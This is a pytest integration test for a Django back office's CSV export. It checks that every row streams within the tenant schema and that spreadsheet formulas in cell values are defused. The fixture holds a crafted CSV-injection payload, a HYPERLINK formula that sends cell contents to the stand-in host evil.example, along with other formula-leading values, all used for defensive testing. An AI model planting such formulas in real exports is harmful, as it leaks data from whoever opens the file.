"""The back office's CSV export through the real stack: gunicorn (workers and threads), every
middleware, a staff login with its second factor. The body is streamed after the middleware
put the public schema back, which is where the export used to break after its header."""

from __future__ import annotations

import csv
import io
import secrets
from collections.abc import Iterator
from typing import Any

import pytest
import requests
from django_tenants.utils import schema_context

from accounts.models import User
from quota.models import QuotaApplication
from quota.services import back_office_staff_ensure
from tenants.models import Partner
from tenants.services import partner_provision
from tests.factories import ApplicationFactory
from tests.staff_login import http_staff_login, staff_device, totp_code

PASSWORD = "Export_2026!"
ROWS = 620  # more than one chunk of the export's database cursor (500)
CRAFTED = '=HYPERLINK("https://evil.example/?leak="&A1;"Klick")'


@pytest.fixture
def export_partner(django_db_blocker: Any, live_server_port: int) -> Iterator[Partner]:
    """A partner of its own with committed rows, as the server process sees them."""
    with django_db_blocker.unblock():
        partner = partner_provision(subdomain=f"csv-{secrets.token_hex(3)}", name="CSV Export")
        with schema_context(partner.schema_name):
            staff = back_office_staff_ensure(username="export", email="export@csv.example", password=PASSWORD)
            staff_device(staff)
            ApplicationFactory.create_batch(ROWS - 2)
            ApplicationFactory.create(client__last_name=CRAFTED, client__first_name="+49 170 1234567")
            ApplicationFactory.create(
                registration__owner__email="@attacker@example.de", client__first_name="-2+3"
            )
    yield partner
    with django_db_blocker.unblock():
        partner.delete(force_drop=True)


def test_the_export_streams_every_row_inside_the_partners_schema_and_defuses_formulas(
    export_partner: Partner, live_server_port: int, django_db_blocker: Any
) -> None:
    # Any *.localhost name is this machine; the resolver here knows only a few of them.
    base = f"http://127.0.0.1:{live_server_port}"
    session = requests.Session()
    session.headers["Host"] = f"{export_partner.subdomain}.localhost:{live_server_port}"

    def code() -> str:
        with django_db_blocker.unblock(), schema_context(export_partner.schema_name):
            return totp_code(staff_device(User.objects.get(username="export")))

    http_staff_login(session, base_url=base, username="export", password=PASSWORD, code=code)
    changelist = f"{base}/admin/quota/quotaapplication/"
    form = session.get(changelist)
    token = form.text.split('name="csrfmiddlewaretoken" value="', 1)[1].split('"', 1)[0]
    with django_db_blocker.unblock(), schema_context(export_partner.schema_name):
        first = QuotaApplication.objects.values_list("pk", flat=True).first()

    # when: the export action for every application ("select all" across pages)
    response = session.post(
        changelist,
        data={
            "action": "export_csv",
            "select_across": "1",
            "index": "0",
            "_selected_action": [str(first)],
            "csrfmiddlewaretoken": token,
        },  # fmt: skip
        headers={"Referer": changelist},
    )

    # then: every row arrived, and owner text that a spreadsheet would run is text
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff")), delimiter=";"))
    assert rows[0][:5] == ["Nummer", "Jahr", "Status", "Statusname", "E-Mail"]
    assert len(rows) == 1 + ROWS
    cells = {cell for row in rows[1:] for cell in row}
    assert "'" + CRAFTED in cells and CRAFTED not in cells
    assert "'+49 170 1234567" in cells
    assert "'@attacker@example.de" in cells and "'-2+3" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
